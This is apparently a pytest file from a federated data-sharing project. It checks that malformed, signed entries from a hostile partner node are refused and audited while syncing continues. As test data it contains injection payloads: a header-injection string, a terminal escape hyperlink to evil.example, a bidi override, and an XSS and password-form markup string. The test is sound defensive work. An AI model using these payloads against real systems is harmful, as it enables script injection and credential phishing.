"""A partner acting in bad faith sends authentic but malformed objects (finding 15): a section
name with control characters or of 5,000 characters, a geometry the projection cannot read, a
kind this node does not know, a unit of an unknown kind, a report with an escape sequence in
its text. The receiver stores none of them, audits each as refused (rule `shape`, naming the
field), and keeps the rest of the stream: the good entries after them arrive, and the next
sync goes on. Markup in a name is a valid shape: it is stored as the text it is (the page
shows it as text, tests/web/test_injection.py).

The bad entries are signed with the sending node's own key and sealed into its stream, as a
compromised partner node could; they are fed to `inbound.apply`, what `Federation.pull` calls.
"""

from __future__ import annotations

import copy
import json
from typing import Any

import pytest

from fossatum.domain.text import NAME_MAX
from fossatum.federation import inbound
from fossatum.federation.stream import seal
from fossatum.log.entry import Entry
from fossatum.node import Node
from fossatum.schemas import SectionIn

from .cluster import Cluster

pytestmark = pytest.mark.both_backends

SQUARE = {"type": "Polygon", "coordinates": [[[8.5, 35.1], [8.6, 35.1], [8.6, 35.2], [8.5, 35.2], [8.5, 35.1]]]}


def add_section(node: Node, section_id: str, name: str) -> dict[str, Any]:
    spec = SectionIn.model_validate({"id": section_id, "name": name, "geometry": SQUARE, "impact": "medium",
                                     "audience": {"scope": "all_partners"}})
    return node.add_section(actor=None, spec=spec, owner_agency={"TUN": "TN-GN", "DZA": "DZ-GN", "LBY": "LY-BG"}[node.country])


def entry_of(node: Node, object_id: str) -> dict[str, Any]:
    for e in node.store.entries(node.node_id, strict=False):
        if e.object_id == object_id:
            return e.to_doc()
    raise AssertionError(f"no entry for {object_id}")


def signed(template: dict[str, Any], node: Node, seq: int, *, kind: str | None = None,
           payload: dict[str, Any]) -> dict[str, Any]:
    """An entry of `node`'s log with this payload, hashed and signed by `node` itself."""
    doc = {**copy.deepcopy(template), "seq": seq, "payload": payload, "hash": "", "sig": ""}
    if kind:
        doc["kind"] = kind
    digest = Entry.from_doc(doc).compute_hash()
    return {**doc, "hash": digest, "sig": node.key.sign(digest)}


def chain(sender: Node, receiver: Node, start: tuple[int, str], entries: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """Stream items carrying `entries`, sealed by the sender and linked from the receiver's cursor."""
    seq, prev = start
    items = []
    for e in entries:
        seq += 1
        wire = seal(sender.key, {"from": sender.node_id, "to": receiver.country, "seq": seq, "prev": prev,
                                 "kind": "entry", "entry": e})
        items.append(wire)
        prev = wire["hash"]
    return items


def cursor(receiver: Node, sender: Node) -> tuple[int, str]:
    from fossatum.log.entry import GENESIS

    row = receiver.store.read_one("SELECT stream_seq, stream_hash FROM inbound WHERE origin = ?", (sender.node_id,))
    return (row[0], row[1]) if row else (0, GENESIS)


def section_names(node: Node) -> dict[str, str]:
    return {r[0]: r[1] for r in node.store.read("SELECT id, name FROM sections", system=True)}


def unit_ids(node: Node) -> set[str]:
    return {r[0] for r in node.store.read("SELECT id FROM units", system=True)}


def refusals(node: Node) -> list[dict[str, Any]]:
    return [a for a in node.federation.audit(limit=1000) if a["direction"] == "in" and a["decision"] == "refused"]


def test_malformed_partner_objects_are_refused_and_the_stream_goes_on(cluster: Cluster) -> None:
    tun, dza = cluster.nodes["TUN"], cluster.nodes["DZA"]
    add_section(dza, "dz-genuine", "Oued Souf")
    cluster.sync()
    assert "dz-genuine" in section_names(tun)
    section = entry_of(dza, "dz-genuine")
    unit_template = copy.deepcopy(section)
    unit_template["kind"] = "unit.added"
    base = section["payload"]
    report = cluster.file("DZA")
    report_entry = next(e.to_doc() for e in dza.store.entries(dza.node_id, strict=False)
                        if e.object_id == report["id"] and e.kind == "report.validated")
    unit_doc = {"id": "dz-unit-bad", "name": "Patrouille 7", "kind": "armoured_train", "callsign": "P7",
                "owner_agency": base["owner_agency"], "owner_country": "DZA", "audience": base["audience"],
                "position": {"lat": 35.1, "lon": 8.5}, "position_at": base["updated_at"], "updated_at": base["updated_at"]}
    bad_report = copy.deepcopy(report_entry["payload"])
    bad_report["report"]["description"] = "clean text\x1b]8;;https://evil.example\x07click\x1b]8;;\x07"
    seq = 10_000  # the partner's own log numbers: the receiver holds none this high
    cases = {  # object id → (entry, the field the refusal must name)
        "dz-ctrl": (signed(section, dza, seq + 1, payload={**base, "id": "dz-ctrl", "name": "Oued\x07Souf\r\nSet-Cookie"}), "section.name"),
        "dz-long": (signed(section, dza, seq + 2, payload={**base, "id": "dz-long", "name": "A" * (NAME_MAX + 1)}), "section.name"),
        "dz-bidi": (signed(section, dza, seq + 3, payload={**base, "id": "dz-bidi", "name": "Post \u202eNGT"}), "section.name"),
        "dz-geom": (signed(section, dza, seq + 4, payload={**base, "id": "dz-geom", "geometry": {"type": "Polygon", "coordinates": "x"}}), "section.geometry"),
        "dz-kind": (signed(section, dza, seq + 5, kind="section.exploded", payload={**base, "id": "dz-kind"}), "kind"),
        "dz-impact": (signed(section, dza, seq + 6, payload={**base, "id": "dz-impact", "impact": "<b>apocalyptic</b>"}), "section.impact"),
        "dz-unit-bad": (signed(unit_template, dza, seq + 7, payload=unit_doc), "unit.kind"),
        report["id"]: (signed(report_entry, dza, seq + 8, payload=bad_report), "payload.report.description"),
    }
    markup = '<img src=x onerror=alert(1)><form action=//evil.example><input name=pw></form>'
    good = signed(section, dza, seq + 9, payload={**base, "id": "dz-markup", "name": markup})
    start = cursor(tun, dza)
    items = chain(dza, tun, start, [e for e, _ in cases.values()] + [good])
    versions_before = tun.store.read("SELECT COUNT(*) FROM report_versions", system=True)[0][0]

    result = inbound.apply(tun.store, tun.federation.partner("DZA"), tun.country, items)

    assert result.rejected is None, result.rejected  # nothing broke the chain: the stream goes on
    assert result.stored == 1 and len(result.refused) == len(cases)
    assert cursor(tun, dza) == (start[0] + len(items), items[-1]["hash"])
    names = section_names(tun)
    assert names["dz-markup"] == markup and names["dz-genuine"] == "Oued Souf"  # markup is text, kept as sent
    assert not {"dz-ctrl", "dz-long", "dz-bidi", "dz-geom", "dz-kind", "dz-impact"} & set(names)
    assert "dz-unit-bad" not in unit_ids(tun)
    assert tun.store.read("SELECT COUNT(*) FROM report_versions", system=True)[0][0] == versions_before
    assert "evil" not in json.dumps(tun.store.read("SELECT doc FROM reports", system=True))
    audited = {a["object_id"]: a for a in refusals(tun)}
    for object_id, (entry, field) in cases.items():
        row = audited[object_id]
        assert row["rule"] == "shape" and row["partner"] == "DZA" and row["entry_seq"] == entry["seq"], row
        assert f"{field}:" in row["detail"], (field, row["detail"])
    # the next page of the stream goes on from there
    after = signed(section, dza, seq + 10, payload={**base, "id": "dz-after", "name": "Bir el Ater"})
    more = inbound.apply(tun.store, tun.federation.partner("DZA"), tun.country, chain(dza, tun, cursor(tun, dza), [after]))
    assert more.rejected is None and more.stored == 1 and section_names(tun)["dz-after"] == "Bir el Ater"


def test_free_text_keeps_its_line_breaks_and_a_name_its_arabic(cluster: Cluster) -> None:
    tun, dza = cluster.nodes["TUN"], cluster.nodes["DZA"]
    add_section(dza, "dz-arabic", "\u0648\u0627\u062f \u0633\u0648\u0641 \u200f(Oued Souf)")
    report = cluster.file("DZA", description="line one\nline two\ttabbed")
    cluster.sync()
    assert section_names(tun)["dz-arabic"].startswith("\u0648\u0627\u062f")
    assert tun.store.read_one("SELECT 1 FROM reports WHERE id = ?", (report["id"],), system=True) is not None
    assert refusals(tun) == []
